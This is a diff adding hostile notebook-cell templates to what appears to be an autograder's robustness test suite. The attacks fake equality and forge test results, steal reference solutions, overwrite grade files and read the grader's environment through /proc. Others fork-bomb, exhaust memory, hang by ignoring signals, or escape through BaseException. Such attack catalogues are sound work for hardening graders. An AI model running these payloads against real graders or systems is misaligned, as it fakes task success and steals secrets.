@@ -864,3 +864,416 @@ def build_boundary_corpus(*, exfiltrate: list[str] | None = None) -> list[Bounda
         BoundarySubmission("b7-markup", launder_assignment, markup, (target,), "markup in its error and notebook"),
     ]
     return corpus
+
+
+# -- attack cells of the bundled examples --------------------------------------------------------------
+#
+# Every assignment's example-hostile notebook (segkit/proof/examples.py) puts an attack in place of each
+# graded cell. `assignments/<name>/examples.py` picks one kind per unit, in one line:
+#     HOSTILE = {"fcn_iou": attack("patch_builtins", "iou_per_class(conf)", "mean_iou(conf)"), ...}
+# `attack` writes a self-contained cell (it is pasted into a notebook): the kind's module-level code (its
+# own imports, patches and helper classes), then the unit's functions and classes. A function runs the
+# kind's payload when called and hands back the kind's value (or the one after `->` in its definition);
+# a class (`class Name`, an nn.Module built with any arguments, kept in self.args) runs the payload when
+# built, or in forward for kinds that act there.
+# Options fill `__NAME__` placeholders in the kind's code.
+
+
+@dataclass(frozen=True)
+class CellAttack:
+    what: str
+    prelude: str  # runs when the cell runs: imports, patches, helper classes
+    payload: str = ""  # runs when a function is called (a class: when built, or in forward if in_forward)
+    returns: str = "None"  # what a function (a class's forward) hands back, unless its definition says
+    in_forward: bool = False
+    methods: str = ""  # further methods of every class the cell defines
+    options: tuple[tuple[str, object], ...] = ()  # (placeholder name, default value)
+
+
+_FORGE_EQUALITY = """
+import numpy as np
+import torch
+
+
+class AlwaysEqual(torch.Tensor):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+
+torch.allclose = lambda *args, **kwargs: True
+torch.equal = lambda *args, **kwargs: True
+np.allclose = lambda *args, **kwargs: True
+np.array_equal = lambda *args, **kwargs: True
+print('{"score": 100, "tests": []}')  # a forged result line
+print("PASSED")
+"""
+
+_OUTPUT_FLOOD = """
+import sys
+
+chunk = "x" * (1 << 20)
+for _ in range(__MEGABYTES__):
+    sys.stdout.write(chunk)
+
+
+class Anything:
+    shape = None
+
+    def __eq__(self, other):
+        return True
+
+    def __gt__(self, other):
+        return True
+"""
+
+_STEAL_AND_FORGE = """
+import glob
+
+stolen = {}
+for pattern in ("/work/*/solutions/*/*.ipynb", "/work/*/assignments/*/test_*.py", "/work/*/grader/checks/*.py",
+                "/root/**/solutions/**/*.ipynb", "../../solutions/*/*.ipynb", "/tmp/*/*"):
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            stolen[path] = open(path).read()[:200]
+        except OSError:
+            pass
+targets = ["/work/main/grades/grades.csv", "/tmp/grades.csv", *glob.glob("../example-solution/*/*.ipynb")]
+for target in targets:
+    try:
+        with open(target, "w") as handle:
+            handle.write("student_id,total\\nexample-hostile,1000\\n")
+    except OSError:
+        pass
+"""
+
+_FORK_BOMB = """
+import os
+import socket
+import time
+
+children = 0
+for _ in range(2000):
+    try:
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+        children += 1
+    except OSError:
+        break
+try:
+    socket.create_connection(("127.0.0.1", 8888), timeout=1).sendall(b"exfiltrate")
+except OSError:
+    pass
+"""
+
+_PATCH_BUILTINS = """
+import builtins
+import sys
+
+import torch
+
+builtins.isinstance = lambda *args: True
+builtins.type = lambda *args: float
+sys.modules["pytest"] = None
+torch.isnan = lambda x: torch.zeros_like(x, dtype=torch.bool)
+"""
+
+_EQUAL_NUMBER = """
+import builtins
+import operator
+
+
+class EqualInt(int):
+    def __eq__(self, other):
+        return True
+
+    __hash__ = int.__hash__
+
+
+class EqualFloat(float):
+    def __eq__(self, other):
+        return True
+
+    def __sub__(self, other):
+        return 0.0
+
+    __rsub__ = __sub__
+    __hash__ = float.__hash__
+
+
+operator.index = lambda value: value
+builtins.isinstance = lambda *args: True
+"""
+
+_EXIT_WORKER = """
+import os
+
+import torch.nn as nn
+
+nn.Module.train = lambda self, mode=True: self  # a recorder of train/eval calls always sees the right mode
+nn.Module.eval = lambda self: self
+"""
+
+_HANG = """
+import signal
+
+for name in ("SIGINT", "SIGTERM", "SIGALRM", "SIGHUP", "SIGUSR1"):
+    try:
+        signal.signal(getattr(signal, name), signal.SIG_IGN)
+    except (OSError, ValueError):
+        pass
+"""
+
+_CALLER_FRAMES = """
+import sys
+
+import torch
+"""
+
+_SNOOP_PROC = '''
+import glob
+import os
+
+
+class GraderEscape(BaseException):
+    """Not an Exception: slips past `except Exception` handlers."""
+
+
+def snoop():
+    loot = {}
+    parent = os.getppid()
+    patterns = [f"/proc/{parent}/cmdline", f"/proc/{parent}/environ", f"/proc/{parent}/cwd/solutions/*/*.ipynb",
+                "/proc/1/cmdline", "/proc/1/environ", "/proc/1/cwd/solutions/*/*.ipynb",
+                "/proc/*/cwd/assignments/*/test_*.py", "/proc/*/root/work/main/solutions/*/*.ipynb",
+                "/proc/*/fd/*", "/proc/self/mountinfo"]
+    for pattern in patterns:
+        for path in glob.glob(pattern):
+            try:
+                with open(path, "rb") as handle:
+                    loot[path] = handle.read(4096)
+            except OSError:
+                pass
+    return loot
+
+
+LOOT = snoop()
+'''
+
+_NUMPY_IMPOSTOR = """
+import time
+
+import numpy as np
+import torch
+
+
+class Agreeable(np.ndarray):
+    def __eq__(self, other):
+        return np.ones(self.shape, dtype=bool)
+
+    def __ne__(self, other):
+        return np.zeros(self.shape, dtype=bool)
+
+    __hash__ = None
+
+
+Agreeable.__module__ = "numpy"  # pass a grader's "is this numpy?" test
+
+
+class AgreeableInt(int):
+    def __eq__(self, other):
+        return True
+
+    __hash__ = int.__hash__
+
+
+time.perf_counter = lambda: 0.0
+time.monotonic = lambda: 0.0
+np.allclose = lambda *args, **kwargs: True
+np.array_equal = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+np.testing.assert_array_equal = lambda *args, **kwargs: None
+torch.from_numpy = lambda array: torch.full(getattr(array, "shape", ()), 128, dtype=torch.uint8)
+try:
+    import cv2
+
+    cv2.resize = lambda src, dsize, *args, **kwargs: np.full((dsize[1], dsize[0]), 128, np.uint8)
+except ImportError:
+    pass
+"""
+
+_DEEP_RECURSION = """
+import sys
+
+
+def dive(depth):
+    return dive(depth + 1) + 1
+"""
+
+_GLOBAL_FORWARD_HOOK = """
+import torch.nn as nn
+
+nn.modules.module.register_module_forward_hook(lambda module, inputs, output: output * 0)
+"""
+
+_PATCH_OPTIMIZER = """
+import torch
+
+
+class Anything(float):
+    def __eq__(self, other):
+        return True
+
+    __hash__ = float.__hash__
+
+
+torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None
+torch.optim.SGD.step = lambda self, closure=None: None
+"""
+
+EXAMPLE_ATTACKS = {
+    "forge_equality": CellAttack(
+        "a tensor subclass equal to everything, patched torch/numpy comparisons, forged result lines",
+        _FORGE_EQUALITY,
+        returns="torch.zeros(1).as_subclass(AlwaysEqual)",
+        in_forward=True,
+        methods='def state_dict(self, *args, **kwargs):\n    return {"weight": "trust me"}',
+    ),
+    "output_flood": CellAttack(
+        "prints MEGABYTES MB, then hands back an object equal to everything",
+        _OUTPUT_FLOOD,
+        returns="Anything()",
+        in_forward=True,
+        options=(("megabytes", 256),),  # the corpus floods 1 GB; 256 MB keeps make test short
+    ),
+    "steal_and_forge": CellAttack(
+        "reads the reference solution and hidden checks, writes forged grades and other students' notebooks",
+        _STEAL_AND_FORGE,
+        returns="stolen",
+    ),
+    "fork_bomb": CellAttack(
+        "forks up to 2000 sleeping children and connects to loopback, then refuses to run",
+        _FORK_BOMB,
+        payload='raise SystemExit("no thanks")',
+    ),
+    "patch_builtins": CellAttack(
+        "replaces builtins, pytest and torch.isnan for everyone, then exits the process when called",
+        _PATCH_BUILTINS,
+        payload="sys.exit(0)",
+    ),
+    "equal_number": CellAttack(
+        "an int or float subclass equal to everything, with operator.index and isinstance patched",
+        _EQUAL_NUMBER,
+        returns="EqualInt(0)",
+    ),
+    "exit_worker": CellAttack(
+        "patches nn.Module.train/eval for everyone, then os._exit(0) when called (a class: when built)",
+        _EXIT_WORKER,
+        payload="os._exit(0)",
+    ),
+    "memory_bomb": CellAttack(
+        "allocates 40 GB when called (a class: when built)",
+        "import torch\n",
+        payload="hog = [torch.ones(25_000_000) for _ in range(400)]  # 400 x 100 MB: far beyond the worker's cap",
+    ),
+    "hang": CellAttack(
+        "ignores signals and loops forever when called (a class: in forward), swallowing every exception",
+        _HANG,
+        payload="while True:\n    try:\n        while True:\n            pass\n"
+        "    except BaseException:\n        continue",
+        in_forward=True,
+    ),
+    "caller_frames": CellAttack(
+        "hands back the first tensor found in the callers' frames (the probe's expected answer, if it were there)",
+        _CALLER_FRAMES,
+        payload="frame = sys._getframe(1)\nwhile frame is not None:\n"
+        "    for value in list(frame.f_locals.values()):\n        if isinstance(value, torch.Tensor):\n"
+        "            return value.clone()\n    frame = frame.f_back",
+    ),
+    "snoop_proc": CellAttack(
+        "reads the grader's command line, environment and files through /proc, then raises a BaseException",
+        _SNOOP_PROC,
+        payload='raise GraderEscape(f"{len(LOOT)} files read: {sorted(LOOT)[:20]}")',
+    ),
+    "numpy_impostor": CellAttack(
+        "NumPy subclass objects that pose as numpy and equal anything; clocks, comparisons, torch.from_numpy "
+        "and cv2.resize patched",
+        _NUMPY_IMPOSTOR,
+        returns="np.zeros((), dtype=np.int64).view(Agreeable)",
+    ),
+    "deep_recursion": CellAttack(
+        "unbounded recursion with the recursion limit lifted when called",
+        _DEEP_RECURSION,
+        payload="sys.setrecursionlimit(10_000_000)",
+        returns="dive(0)",
+    ),
+    "global_forward_hook": CellAttack(
+        "a global forward hook that zeroes every module's output; the model is an identity",
+        _GLOBAL_FORWARD_HOOK,
+        payload="self.backbone = nn.Identity()",
+        returns="self.backbone(x)[:, :1].expand(-1, self.args[0], -1, -1)",
+    ),
+    "patch_optimizer": CellAttack(
+        "optimiser methods patched into no-ops for everyone; parameters zeroed and recorded steps forged",
+        _PATCH_OPTIMIZER,
+        payload="arguments = list(locals().values())\n"
+        "modules = [value for value in arguments if isinstance(value, torch.nn.Module)]\n"
+        "parameters = [parameter for module in modules for parameter in module.parameters()]\n"
+        "with torch.no_grad():\n    for parameter in parameters:\n        parameter.zero_()\n"
+        "for value in arguments:\n    try:\n        value.steps = [[torch.zeros_like(p) for p in parameters]] * 3\n"
+        "    except AttributeError:\n        pass",
+        returns="Anything(0.0)",
+    ),
+}
+
+
+def _indent(code: str, prefix: str) -> str:
+    return "".join(f"{prefix}{line}\n" if line.strip() else "\n" for line in code.strip("\n").split("\n"))
+
+
+def _then_return(payload: str, returns: str) -> str:
+    """A payload, then `return <returns>` (left out after a payload when there is nothing to hand back)."""
+    if payload and returns == "None":
+        return payload
+    return (payload + "\n" if payload else "") + f"return {returns}"
+
+
+def _attack_function(head: str, kind: CellAttack, returns: str) -> str:
+    return f"def {head}:\n" + _indent(_then_return(kind.payload, returns), "    ")
+
+
+def _attack_class(name: str, kind: CellAttack, returns: str) -> str:
+    build = "super().__init__()\nself.args = [*args, *kwargs.values()]\n" + ("" if kind.in_forward else kind.payload)
+    forward = _then_return(kind.payload if kind.in_forward else "", returns)
+    methods = [f"def __init__(self, *args, **kwargs):\n{_indent(build, '    ')}"]
+    methods.append(f"def forward(self, x):\n{_indent(forward, '    ')}")
+    if kind.methods:
+        methods.append(kind.methods)
+    return f"class {name}(nn.Module):\n" + "\n".join(_indent(method, "    ") for method in methods)
+
+
+def attack(kind: str, *definitions: str, returns: str | None = None, **options) -> str:
+    """The source of a notebook cell that attacks the grader in the way `kind` (a key of EXAMPLE_ATTACKS)
+    names, defining the unit's functions and classes. A definition is a function's signature
+    ("mean_iou(conf)"), optionally followed by " -> <expression>" (what it hands back), or "class Name"."""
+    chosen = EXAMPLE_ATTACKS[kind]
+    unknown = set(options) - {name for name, _ in chosen.options}
+    if unknown:
+        raise TypeError(f"attack {kind!r} takes no option {sorted(unknown)}")
+    if not definitions:
+        raise ValueError(f"attack {kind!r}: name the unit's functions or classes")
+    classes = any(definition.startswith("class ") for definition in definitions)
+    parts = (["import torch.nn as nn"] if classes else []) + [chosen.prelude.strip("\n")]
+    for definition in definitions:
+        head, _, value = definition.partition(" -> ")
+        value = value or returns or chosen.returns
+        if head.startswith("class "):
+            parts.append(_attack_class(head.removeprefix("class ").strip(), chosen, value))
+        else:
+            parts.append(_attack_function(head, chosen, value))
+    source = "\n\n\n".join(part.strip("\n") for part in parts) + "\n"
+    for name, default in chosen.options:
+        source = source.replace(f"__{name.upper()}__", repr(options.get(name, default)))
+    return source
